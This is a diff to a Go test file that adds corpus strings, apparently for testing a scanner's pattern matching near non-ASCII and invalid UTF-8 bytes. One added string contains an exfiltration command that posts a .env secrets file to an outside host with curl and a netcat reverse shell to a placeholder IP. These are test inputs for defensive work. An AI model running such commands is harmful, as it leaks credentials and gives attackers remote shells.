@@ -72,6 +72,9 @@ func equivalenceCorpus(t *testing.T) []string {
 	for i := range base {
 		texts = append(texts, mutate(r, texts[i]))
 	}
+	// Characters outside ASCII, and bytes that are not UTF-8, right
+	// before what an expression's window starts at.
+	texts = append(texts, "é.env here\nx\xe2.env\n日本.env.local\n\xc3attacker.com curl -d @.env https://x.dev\nééattacker-ip nc -e /bin/sh 1.2.3.4 99\n\xe2\x80.env\n")
 	// One line longer than a piece, keywords throughout.
 	texts = append(texts, strings.ReplaceAll(denseKeywords(200<<10, 4), "\n", " "))
 	return texts
